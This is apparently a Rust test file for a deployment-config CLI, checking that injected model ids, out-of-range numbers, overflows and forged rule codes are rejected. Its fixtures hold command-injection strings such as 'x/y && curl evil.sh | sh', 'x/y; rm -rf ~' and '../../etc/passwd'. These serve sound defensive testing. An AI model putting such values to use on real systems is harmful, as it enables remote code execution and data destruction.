//! Issue #10, hardening of values: ids that reach `export`'s shell commands, ranges of
//! numeric fields, and numbers that overflow. Everything runs through the real binary.

use crate::common;

use std::path::{Path, PathBuf};
use std::process::Output;

use common::{deployfit, deployfit_in, json, scratch, stdout};

fn stderr(output: &Output) -> String {
    String::from_utf8_lossy(&output.stderr).into_owned()
}

/// Writes `text` as `name` in a fresh scratch directory and returns the directory.
fn file(dir: &str, name: &str, text: &str) -> PathBuf {
    let dir = scratch(dir);
    std::fs::write(dir.join(name), text).expect("write the test file");
    dir
}

/// The diagnostics of `check --format json` with the given code.
fn with_code(report: &serde_json::Value, code: &str) -> Vec<serde_json::Value> {
    report["diagnostics"]
        .as_array()
        .expect("a diagnostics array")
        .iter()
        .filter(|d| d["code"] == code)
        .cloned()
        .collect()
}

fn check_json(dir: &Path, name: &str) -> (Output, serde_json::Value) {
    let output = deployfit_in(dir, &["check", "--format", "json", name]);
    let report = json(&output);
    (output, report)
}

/// The text a diagnostic's span covers.
fn spanned(text: &str, diag: &serde_json::Value) -> String {
    let start = diag["span"]["start"].as_u64().unwrap() as usize;
    let end = diag["span"]["end"].as_u64().unwrap() as usize;
    text[start..end].to_string()
}

fn export(dir: &Path, name: &str, deployment: &str, engine: &str) -> Output {
    deployfit_in(
        dir,
        &[
            "export",
            name,
            "--deployment",
            deployment,
            "--engine",
            engine,
        ],
    )
}

const HOSTILE_HF: &[&str] = &[
    "x/y; rm -rf ~",
    "x/$(touch pwned)",
    "x/`id`",
    "x/y\\nrm -rf ~",
    "--help/x",
    "x/y && curl evil.sh | sh",
    "x/'y'",
    "x/ÿ",
    "../../etc/passwd",
];

#[test]
fn check_rejects_hf_ids_with_shell_metacharacters_and_export_refuses_them() {
    for (i, hf) in HOSTILE_HF.iter().enumerate() {
        let text = format!(
            "model evil extends glm4_9b {{\n    hf = \"{hf}\"\n}}\n\n\
             deployment d {{\n    model = evil\n    quant = fp16\n    gpu = h100_sxm5\n    context = 8k\n}}\n"
        );
        let dir = file(&format!("hardening_hf_{i}"), "evil.deploy", &text);
        let (output, report) = check_json(&dir, "evil.deploy");
        assert_eq!(output.status.code(), Some(1), "{hf}: check exits 1");
        let invalid = with_code(&report, "deploy::field::invalid_id");
        assert_eq!(invalid.len(), 1, "{hf}: {report}");
        assert_eq!(invalid[0]["line"], 2, "{hf}: on the `hf` line");
        assert_eq!(spanned(&text, &invalid[0]), format!("\"{hf}\""));
        assert!(
            invalid[0]["help"].as_str().unwrap().contains("org/name"),
            "{hf}: the help names a valid form"
        );
        for engine in ["vllm", "llamacpp"] {
            let refused = export(&dir, "evil.deploy", "d", engine);
            assert_ne!(refused.status.code(), Some(0), "{hf}: export {engine}");
            assert_eq!(stdout(&refused), "", "{hf}: nothing printed to run");
            let err = stderr(&refused);
            assert!(
                err.contains("has an `hf` that is not a Hugging Face repository id"),
                "{hf}: {err}"
            );
        }
    }
}

#[test]
fn export_refuses_invalid_ids_on_every_engine_and_from_an_ancestor() {
    let text = "\
model evil_base extends glm4_9b {
    hf     = \"THUDM/GLM-4-9B-0414; curl evil | sh\"
    ollama = \"glm4:9b\\nFROM evil\"
}

model evil extends evil_base {
}

deployment d {
    model   = evil
    quant   = fp16
    gpu     = rtx_4090
    context = 8k
}
";
    let dir = file("hardening_ancestor", "a.deploy", text);
    let (_, report) = check_json(&dir, "a.deploy");
    let invalid = with_code(&report, "deploy::field::invalid_id");
    let lines: Vec<u64> = invalid
        .iter()
        .map(|d| d["line"].as_u64().unwrap())
        .collect();
    assert_eq!(lines, vec![2, 3], "{report}");
    assert!(
        invalid[1]["help"]
            .as_str()
            .unwrap()
            .contains("ollama = \"glm4:9b\"")
    );
    for engine in ["vllm", "ollama", "llamacpp"] {
        let refused = export(&dir, "a.deploy", "d", engine);
        assert_eq!(refused.status.code(), Some(1), "{engine}");
        assert_eq!(stdout(&refused), "", "{engine}");
        assert!(stderr(&refused).contains("model `evil` has an"), "{engine}");
    }
}

#[test]
fn valid_ids_still_export_and_every_shell_word_is_plain_or_quoted() {
    let text = "\
model mine extends glm4_9b {
    hf     = \"my-org/GLM_4.9b-v2\"
    ollama = \"registry.example.com:5000/team/glm4:9b-q4_K_M\"
}

deployment d {
    model    = mine
    quant    = Q4_K_M
    kv_cache = q8_0
    gpu      = rtx_4090
    context  = 8k
}
";
    let dir = file("hardening_valid", "ok.deploy", text);
    let (output, report) = check_json(&dir, "ok.deploy");
    assert_eq!(output.status.code(), Some(0), "{report}");
    let ollama = export(&dir, "ok.deploy", "d", "ollama");
    assert_eq!(ollama.status.code(), Some(0), "{}", stderr(&ollama));
    assert!(stdout(&ollama).contains("\nFROM registry.example.com:5000/team/glm4:9b-q4_K_M\n"));
    let llamacpp = export(&dir, "ok.deploy", "d", "llamacpp");
    assert_eq!(llamacpp.status.code(), Some(0), "{}", stderr(&llamacpp));
    assert!(stdout(&llamacpp).starts_with("llama-server -m models/GLM_4.9b-v2-Q4_K_M.gguf \\\n"));
    // Every example's export: shell lines hold only plain words.
    let mut exported = 0;
    for path in common::deploy_files("examples") {
        let relative = path.strip_prefix(common::root()).unwrap().to_str().unwrap();
        let explain = json(&deployfit(&["explain", relative, "--format", "json"]));
        for d in explain.as_array().unwrap() {
            let name = d["deployment"].as_str().unwrap();
            for engine in ["vllm", "ollama", "llamacpp"] {
                let out =
                    deployfit(&["export", relative, "--deployment", name, "--engine", engine]);
                if out.status.code() != Some(0) {
                    continue;
                }
                exported += 1;
                for line in stdout(&out).lines().filter(|l| !l.starts_with('#')) {
                    assert!(
                        line.chars()
                            .all(|c| c.is_ascii_alphanumeric() || " _./:=@%+-\\".contains(c)),
                        "{relative} {name} {engine}: {line:?}"
                    );
                }
            }
        }
    }
    assert!(exported >= 5, "only {exported} exports succeeded");
}

#[test]
fn negative_bits_per_weight_is_out_of_range_and_not_used() {
    // The deployment uses the quant through one that extends it, from an imported file
    // (whose own diagnostics `check` of the importer does not show).
    let catalog = "\
quant bad_q extends Q4_K_M {
    bpw = -4
}
";
    let text = "\
import \"catalog.deploy\"

quant child_q extends bad_q {
}

deployment d {
    model   = glm4_9b
    quant   = child_q
    gpu     = rtx_4090
    context = 8k
    require fits
}
";
    let dir = file("hardening_bpw", "bpw.deploy", text);
    std::fs::write(dir.join("catalog.deploy"), catalog).unwrap();
    let (output, catalog_report) = check_json(&dir, "catalog.deploy");
    assert_eq!(output.status.code(), Some(1));
    let range = with_code(&catalog_report, "deploy::field::out_of_range");
    assert_eq!(range.len(), 1, "{catalog_report}");
    assert_eq!(range[0]["line"], 2);
    assert_eq!(spanned(catalog, &range[0]), "-4");
    let message = range[0]["message"].as_str().unwrap();
    assert!(
        message.contains("greater than 0 and at most 64"),
        "{message}"
    );

    let (output, report) = check_json(&dir, "bpw.deploy");
    assert_eq!(output.status.code(), Some(1), "{report}");
    let codes: Vec<&str> = report["diagnostics"]
        .as_array()
        .unwrap()
        .iter()
        .map(|d| d["code"].as_str().unwrap())
        .collect();
    // One error, on the deployment's `quant` line, with the entry's code; no
    // "missing figure" noise and no require judged on a default.
    assert_eq!(codes, vec!["deploy::field::out_of_range"], "{report}");
    let diag = &report["diagnostics"][0];
    assert_eq!(diag["line"], 8);
    assert_eq!(spanned(text, diag), "quant   = child_q");
    assert!(
        diag["message"]
            .as_str()
            .unwrap()
            .contains("`child_q` has an invalid `bpw`, so this deployment is not evaluated"),
        "{diag}"
    );
    // The ancestor's 4.85 is not used in its place, and nothing prints a negative size.
    let figures = report["deployments"][0]["display"].as_object().unwrap();
    // Only the figures that need no sizes: which engine and GPU run the format, and
    // whether the engine runs on the GPU.
    let names: Vec<&String> = figures.keys().collect();
    assert!(
        names.iter().all(|n| n.starts_with("quant_")
            || n.starts_with("kv_runs")
            || *n == "engine_runs_on_gpu"),
        "{report}"
    );
    assert!(
        names.contains(&&"quant_runs_on_engine".to_string()),
        "{report}"
    );
    for sized in ["weights_memory", "total_memory", "decode_tps", "fits"] {
        assert!(!figures.contains_key(sized), "{sized}: {report}");
    }
    let human = stdout(&deployfit_in(&dir, &["check", "bpw.deploy"]));
    assert!(human.contains("d (bpw.deploy:6): not evaluated"), "{human}");
    assert!(!human.contains("GiB"), "{human}");
}

#[test]
fn every_numeric_field_rejects_out_of_range_values() {
    // (kind, parent, field, bad value, range named in the message)
    let cases = [
        ("gpu", "rtx_4090", "memory", "0 GiB", "greater than 0"),
        ("gpu", "rtx_4090", "bandwidth", "-1 GB/s", "greater than 0"),
        ("gpu", "rtx_4090", "price", "-$1/h", "0 or more"),
        ("gpu", "rtx_4090", "tdp", "0 W", "greater than 0"),
        ("model", "glm4_9b", "params", "-9e9", "greater than 0"),
        (
            "model",
            "glm4_9b",
            "layers",
            "0",
            "a whole number from 1 to 4,294,967,295",
        ),
        (
            "model",
            "glm4_9b",
            "kv_heads",
            "-2",
            "a whole number from 1",
        ),
        (
            "model",
            "glm4_9b",
            "max_context",
            "0",
            "a whole number from 1",
        ),
        (
            "quant",
            "Q4_K_M",
            "bpw",
            "0",
            "greater than 0 and at most 64",
        ),
        (
            "quant",
            "Q4_K_M",
            "bits",
            "65",
            "greater than 0 and at most 64",
        ),
        ("kv", "fp16", "bytes", "-2", "greater than 0 and at most 8"),
        (
            "engine",
            "vllm",
            "utilization",
            "150%",
            "above 0% and at most 100%",
        ),
        ("engine", "vllm", "overhead", "-1 GiB", "0 or more"),
        ("engine", "vllm", "overhead_ratio", "2", "from 0% to 100%"),
    ];
    let mut text = String::new();
    let mut expected = Vec::new();
    for (i, (kind, parent, field, value, range)) in cases.iter().enumerate() {
        text.push_str(&format!(
            "{kind} v{i} extends {parent} {{\n    {field} = {value}\n}}\n\n"
        ));
        let line = text.lines().count() - 2;
        expected.push((line as u64, *field, *value, *range));
    }
    let dir = file("hardening_ranges", "ranges.deploy", &text);
    let (output, report) = check_json(&dir, "ranges.deploy");
    assert_eq!(output.status.code(), Some(1));
    let found = with_code(&report, "deploy::field::out_of_range");
    assert_eq!(found.len(), expected.len(), "{text}\n{report}");
    for (diag, (line, field, value, range)) in found.iter().zip(&expected) {
        assert_eq!(diag["line"], *line, "{field}: {diag}");
        assert_eq!(spanned(&text, diag), *value, "{field}");
        let message = diag["message"].as_str().unwrap();
        assert!(
            message.contains(range) && message.contains(field),
            "{message}"
        );
        assert!(!diag["help"].as_str().unwrap().is_empty());
    }
}

#[test]
fn negative_workload_and_deployment_counts_are_rejected() {
    let text = "\
deployment d {
    model   = glm4_9b
    quant   = Q4_K_M
    gpu     = rtx_4090
    context = 8k
    workload {
        rate   = 1 req/s
        prompt = -100000
        output = 200
    }
    require ttft <= 1 s
}

deployment zero {
    model    = glm4_9b
    quant    = Q4_K_M
    gpu      = rtx_4090
    seqs     = 0
    replicas = -1
    memory_utilization = 0%
}
";
    let dir = file("hardening_workload", "w.deploy", text);
    let (output, report) = check_json(&dir, "w.deploy");
    assert_eq!(output.status.code(), Some(1));
    let range = with_code(&report, "deploy::field::out_of_range");
    let lines: Vec<u64> = range.iter().map(|d| d["line"].as_u64().unwrap()).collect();
    assert_eq!(lines, vec![8, 18, 19, 20], "{report}");
    assert_eq!(spanned(text, &range[0]), "-100000");
    // No figure is computed from the negative prompt (it printed `ttft = -565 ms`).
    let human = stdout(&deployfit_in(&dir, &["check", "w.deploy"]));
    assert!(!human.contains("ttft = -"), "{human}");
    assert!(human.contains("d (w.deploy:1): not evaluated"), "{human}");
    // A fractional count is still a type error, as before.
    let fractional = json(&deployfit(&[
        "check",
        "--format",
        "json",
        "tests/fixtures/diagnostics/field.type.deploy",
    ]));
    assert_eq!(with_code(&fractional, "deploy::field::type").len(), 1);
}

#[test]
fn overflowing_numbers_are_errors_that_name_the_expression() {
    let text = "\
gpu pricey extends rtx_4090 {
    price = $1e308/h
}

gpu huge extends rtx_4090 {
    memory = 2 * 1e400 GiB
}

deployment d {
    model   = glm4_9b
    quant   = Q4_K_M
    gpu     = rtx_4090
    count   = 2
    context = 8k
    require decode_tps * 1e200 * 1e200 > 1 tok/s
    require (ttft * 1e200 * 1e200) - (ttft * 1e200 * 1e200) > 0 s
    require cost_per_hour < $1e400/h
}
";
    let dir = file("hardening_overflow", "o.deploy", text);
    let (output, report) = check_json(&dir, "o.deploy");
    assert_eq!(output.status.code(), Some(1));
    let overflow = with_code(&report, "deploy::eval::overflow");
    let found: Vec<(u64, String)> = overflow
        .iter()
        .map(|d| (d["line"].as_u64().unwrap(), spanned(text, d)))
        .collect();
    assert_eq!(
        found,
        vec![
            (2, "$1e308/h".to_string()),
            (6, "1e400 GiB".to_string()),
            (15, "decode_tps * 1e200 * 1e200".to_string()),
            (16, "ttft * 1e200 * 1e200".to_string()),
            (17, "$1e400/h".to_string()),
        ],
        "{report}"
    );
    for diag in &overflow {
        let message = diag["message"].as_str().unwrap();
        // The message names the innermost expression, as the span does.
        assert!(
            message.starts_with(&format!("`{}` overflows", spanned(text, diag))),
            "{message}"
        );
        assert!(!diag["help"].as_str().unwrap().is_empty());
    }
    // None of the requires "holds" or "does not hold" on an infinite value.
    assert!(
        with_code(&report, "deploy::require::failed").is_empty(),
        "{report}"
    );
    let human = stdout(&deployfit_in(&dir, &["check", "o.deploy"]));
    assert!(!human.contains("inf"), "{human}");
}

#[test]
fn a_figure_that_overflows_is_reported_once_on_the_deployment() {
    let text = "\
gpu crawl extends rtx_4090 {
    bandwidth = 1e-300 GB/s
    bf16      = 1e-300 TFLOPS
}

deployment d {
    model   = glm4_9b
    quant   = Q4_K_M
    gpu     = crawl
    context = 8k
    require ttft <= 1 s
}
";
    let dir = file("hardening_figures", "f.deploy", text);
    let (output, report) = check_json(&dir, "f.deploy");
    assert_eq!(output.status.code(), Some(1), "{report}");
    let overflow = with_code(&report, "deploy::eval::overflow");
    let on_deployment: Vec<_> = overflow.iter().filter(|d| d["line"] == 6).collect();
    assert_eq!(on_deployment.len(), 1, "{report}");
    let message = on_deployment[0]["message"].as_str().unwrap();
    assert!(message.contains("`ttft`"), "{message}");
    assert!(
        on_deployment[0]["labels"]
            .as_array()
            .unwrap()
            .iter()
            .any(|l| l["line"] == 9),
        "a label on `gpu = crawl`: {report}"
    );
    let on_require: Vec<_> = overflow.iter().filter(|d| d["line"] == 11).collect();
    assert_eq!(on_require.len(), 1, "{report}");
    assert!(with_code(&report, "deploy::require::failed").is_empty());
    let human = stdout(&deployfit_in(&dir, &["check", "f.deploy"]));
    assert!(!human.contains("inf"), "{human}");
}

#[test]
fn a_rule_whose_condition_overflows_is_an_error_naming_the_expression() {
    let text = "\
rule big {
    level   = warn
    when    = decode_tps * 1e200 * 1e200 > 1 tok/s
    message = \"never\"
}

deployment d {
    model   = glm4_9b
    quant   = Q4_K_M
    gpu     = rtx_4090
    context = 8k
}
";
    let dir = file("hardening_rule", "r.deploy", text);
    let (output, report) = check_json(&dir, "r.deploy");
    assert_eq!(output.status.code(), Some(1), "{report}");
    let overflow = with_code(&report, "deploy::eval::overflow");
    assert_eq!(overflow.len(), 1, "{report}");
    assert_eq!(
        overflow[0]["line"], 7,
        "on the deployment it was checked for"
    );
    let message = overflow[0]["message"].as_str().unwrap();
    assert!(
        message.starts_with("`decode_tps * 1e200 * 1e200` overflows in rule `big`"),
        "{message}"
    );
    assert!(
        with_code(&report, "deploy::rule::big").is_empty(),
        "{report}"
    );
}

#[test]
fn a_rule_code_that_is_not_an_identifier_is_rejected_and_the_rule_does_not_fire() {
    let text = "\
rule forged {
    level   = warn
    when    = fits
    message = \"fires\"
    code    = \"acme::x\\n::error file=a.deploy::forged\"
}

deployment d {
    model   = glm4_9b
    quant   = Q4_K_M
    gpu     = rtx_4090
    context = 8k
}
";
    let dir = file("hardening_code", "c.deploy", text);
    let (output, report) = check_json(&dir, "c.deploy");
    assert_eq!(output.status.code(), Some(1), "{report}");
    let invalid = with_code(&report, "deploy::field::invalid_id");
    assert_eq!(invalid.len(), 1, "{report}");
    assert_eq!(invalid[0]["line"], 5);
    assert!(
        invalid[0]["message"]
            .as_str()
            .unwrap()
            .contains("a newline")
    );
    let github = stdout(&deployfit_in(
        &dir,
        &["check", "--format", "github", "c.deploy"],
    ));
    assert!(!github.contains("forged"), "{github}");
    assert!(
        !report.to_string().contains("\"code\":\"acme::x"),
        "{report}"
    );
}

#[test]
fn a_rule_that_divides_by_zero_points_at_the_deployment_not_into_it() {
    // The rule's spans are relative to the rule; they used to be read as offsets into the
    // deployment, pointing at unrelated text.
    let text = "\
rule ratio {
    level   = warn
    when    = decode_tps / (seqs - seqs) > 1 tok/s
    message = \"never\"
}

deployment d {
    model   = glm4_9b
    quant   = Q4_K_M
    gpu     = rtx_4090
    context = 8k
}
";
    let dir = file("hardening_rule_division", "r.deploy", text);
    let (_, report) = check_json(&dir, "r.deploy");
    let division = with_code(&report, "deploy::eval::division_by_zero");
    assert_eq!(division.len(), 1, "{report}");
    assert_eq!(division[0]["line"], 7);
    assert_eq!(spanned(text, &division[0]), "d");
    let message = division[0]["message"].as_str().unwrap();
    assert!(message.contains("`(seqs - seqs)` is zero"), "{message}");
}

#[test]
fn huge_literals_are_reported_even_when_the_deployment_is_not_evaluated() {
    let text = "\
deployment huge {
    model   = glm4_9b
    quant   = Q4_K_M
    gpu     = rtx_3090
    seqs    = 340282366920938463463374607431768211456
    require cost_per_hour < $1e400/h
    minimize ttft * 1e999
}
";
    let dir = file("hardening_static_literals", "h.deploy", text);
    let (output, report) = check_json(&dir, "h.deploy");
    assert_eq!(output.status.code(), Some(1));
    let range = with_code(&report, "deploy::field::out_of_range");
    assert_eq!(range.len(), 1, "{report}");
    assert_eq!(range[0]["line"], 5);
    let overflow: Vec<(u64, String)> = with_code(&report, "deploy::eval::overflow")
        .iter()
        .map(|d| (d["line"].as_u64().unwrap(), spanned(text, d)))
        .collect();
    assert_eq!(
        overflow,
        vec![(6, "$1e400/h".to_string()), (7, "1e999".to_string())],
        "{report}"
    );
}

/// Issue #32: every speculative field is bounded. A million drafted tokens once passed
/// `check` with decode at 0.0 tok/s; now it is out of range, with the range named, and
/// the largest allowed value still gives a decode speed above zero.
#[test]
fn speculative_fields_are_bounded() {
    let deploy = |tokens: &str, acceptance: &str| {
        format!(
            "// é\ndeployment d {{\n    model = glm4_9b\n    quant = fp8\n    gpu = h100_sxm5\n    engine = vllm\n    speculative {{\n        method = eagle3\n        tokens = {tokens}\n        acceptance = {acceptance}\n    }}\n}}\n"
        )
    };
    for (tokens, acceptance, field) in [
        ("1000000", "60%", "tokens"),
        ("17", "60%", "tokens"),
        ("0", "60%", "tokens"),
        ("4", "101%", "acceptance"),
        ("4", "-1%", "acceptance"),
    ] {
        let dir = file(
            "speculative_bounds",
            "d.deploy",
            &deploy(tokens, acceptance),
        );
        let output = deployfit_in(&dir, &["check", "--format", "json", "d.deploy"]);
        assert_eq!(output.status.code(), Some(1), "{tokens} {acceptance}");
        let report = json(&output);
        let diag = common::diagnostic(&report, "deploy::field::out_of_range");
        let message = diag["message"].as_str().unwrap();
        assert!(
            message.starts_with(&format!("`{field}` must be")),
            "{message}"
        );
        if field == "tokens" {
            assert!(message.contains("from 1 to 16"), "{message}");
        }
    }
    let dir = file("speculative_bounds_ok", "d.deploy", &deploy("16", "60%"));
    let output = deployfit_in(&dir, &["check", "--format", "json", "d.deploy"]);
    assert_eq!(output.status.code(), Some(0), "{}", stdout(&output));
    let report = json(&output);
    // "291.6 tok/s" as printed, and the number in tokens per second.
    let decode = report["deployments"][0]["display"]["decode_tps"]
        .as_str()
        .and_then(|v| v.strip_suffix(" tok/s"))
        .and_then(|v| v.replace(',', "").parse::<f64>().ok());
    assert!(decode.is_some_and(|v| v > 1.0), "{report}");
    let number = report["deployments"][0]["figures"]["decode_tps"].as_f64();
    assert!(
        number
            .zip(decode)
            .is_some_and(|(n, d)| (n - d).abs() < 0.06),
        "{report}"
    );
}
